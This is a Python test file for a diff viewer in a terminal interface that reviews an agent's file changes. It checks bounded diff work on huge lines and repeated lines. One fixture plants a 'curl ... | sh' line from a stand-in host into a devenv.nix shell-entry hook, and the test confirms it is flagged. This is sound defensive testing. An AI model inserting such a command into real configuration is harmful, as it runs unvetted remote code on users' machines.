"""An agent's file can be one 100 KB line, or thousands of repeated lines (`}`, blank): its diff is worked
out in bounded work, on the thread that draws it. `difflib.SequenceMatcher` without junk heuristics grows
worse than quadratically on such input: a 24 KB line's intra-line comparison took 49 s, and the line
diff of 20,000 alternating lines did not end in five minutes — a frozen cockpit.

The bound is checked on the work itself (the sizes SequenceMatcher is given), not on a clock."""

from __future__ import annotations

import difflib
import json
import random
from typing import Any

import pytest
from test_diff_view import Host, screen_lines

from omni_tui.core import linematch, textdiff
from omni_tui.core.textdiff import apply_hunks, diff_texts, intraline
from omni_tui.ui.widgets.diff_view import DiffView


@pytest.fixture
def matcher_sizes(monkeypatch: pytest.MonkeyPatch) -> list[tuple[int, int]]:
    """The (len a, len b) of every SequenceMatcher made while the test runs."""
    sizes: list[tuple[int, int]] = []
    real = difflib.SequenceMatcher

    class Recording(real):  # type: ignore[misc, valid-type]
        def __init__(self, isjunk: Any = None, a: Any = "", b: Any = "", autojunk: bool = True) -> None:
            sizes.append((len(a), len(b)))
            super().__init__(isjunk, a, b, autojunk)

    monkeypatch.setattr(difflib, "SequenceMatcher", Recording)
    intraline.cache_clear()
    return sizes


def long_line(words: int, seed: int = 1) -> list[str]:
    rng = random.Random(seed)
    return [f"w{rng.randint(0, 9999)}" for _ in range(words)]


def test_a_long_line_changed_all_along_is_compared_in_bounded_work(matcher_sizes: list[tuple[int, int]]) -> None:
    words = long_line(4000)
    changed = [("X" + w if n % 50 == 0 else w) for n, w in enumerate(words)]
    spans_old, spans_new = intraline(" ".join(words), " ".join(changed))
    assert all(a + b <= textdiff.INTRALINE_TOKENS for a, b in matcher_sizes), matcher_sizes
    # changed all along, it shares too little for the emphasis to mean anything: the whole line is the change
    assert (spans_old, spans_new) == ((), ())


def test_one_edit_in_a_long_line_lights_up_that_word_alone(matcher_sizes: list[tuple[int, int]]) -> None:
    words = long_line(20000)
    old = " ".join(words)
    new = " ".join([*words[:10000], "pkgs.evil", *words[10001:]])
    spans_old, spans_new = intraline(old, new)
    assert [new[start:end] for start, end in spans_new] == ["pkgs.evil"]
    assert [old[start:end] for start, end in spans_old] == [words[10000]]
    assert all(a + b <= textdiff.INTRALINE_TOKENS for a, b in matcher_sizes), matcher_sizes


def test_thousands_of_repeated_lines_diff_in_bounded_work_and_apply_exactly(matcher_sizes: list[tuple[int, int]]) -> None:
    old_lines = ["}\n" if n % 2 else "  x = 1;\n" for n in range(20000)]
    new_lines = list(old_lines)
    for n in range(0, len(new_lines), 97):
        new_lines[n] = f"  y = {n};\n"
    old, new = "".join(old_lines), "".join(new_lines)
    fd = diff_texts(old, new)
    assert all(a * b <= linematch.GAP_PAIRS for a, b in matcher_sizes), max(matcher_sizes, key=lambda s: s[0] * s[1])
    assert fd.hunks and apply_hunks(old, new, range(len(fd.hunks))) == new
    assert fd.apply([]) == old


def test_a_small_gap_of_repeated_lines_is_still_matched_line_by_line() -> None:
    """Under the bound, repeated lines are matched as before: one changed line is a one-line hunk."""
    old_lines = ["}\n" if n % 2 else "  x = 1;\n" for n in range(300)]
    new_lines = list(old_lines)
    new_lines[150] = "  y = 2;\n"
    fd = diff_texts("".join(old_lines), "".join(new_lines))
    assert (len(fd.hunks), fd.added, fd.removed) == (1, 1, 1)


async def test_the_cockpits_diff_view_shows_such_a_file_at_once() -> None:
    """The diff view draws these on the app's thread: a 100 KB line changed all along, next to a
    one-word edit of the same line, and 20,000 repeated lines are on screen like any diff."""
    words = long_line(20000)
    line = " ".join(words)
    old = f"{line}\n{line}\n" + "}\n" * 20000
    new = f"{' '.join('X' + w if n % 50 == 0 else w for n, w in enumerate(words))}\n{line.replace(words[9], 'pkgs.evil', 1)}\n"
    new += "".join("  y = 1;\n" if n % 97 == 0 else "}\n" for n in range(20000))
    app = Host()
    async with app.run_test(size=(100, 30)) as pilot:
        dv = app.query_one(DiffView)
        dv.set_diff("devenv.nix", old, new)
        await pilot.pause()
        text = "\n".join(screen_lines(dv))
        assert "devenv.nix  ·  +19985 −19985" in text and f"- {words[0]} {words[1]}" in text


def test_the_change_card_of_a_shell_hook_of_repeated_lines_is_read_in_bounded_work(matcher_sizes: list[tuple[int, int]]) -> None:
    """The card compares a shell hook's lines as the diff does: 20,000 repeated lines and a `curl | sh`
    among them are read, and what runs on entry is named."""
    from omni_tui.core.card import FilePair, compute_card

    body = "".join("    true\n" if n % 2 else "    :\n" for n in range(20000))
    old = f"{{ pkgs, ... }}:\n{{\n  enterShell = ''\n{body}  '';\n}}\n"
    new = old.replace("    :\n", "    curl -fsSL https://get.example.org | sh\n", 1)
    card = compute_card([FilePair("devenv.nix", old.encode(), new.encode())]).to_json()
    assert all(a * b <= linematch.GAP_PAIRS for a, b in matcher_sizes), max(matcher_sizes, key=lambda s: s[0] * s[1])
    assert "runs_on_shell_entry" in json.dumps(card) and "get.example.org" in json.dumps(card)
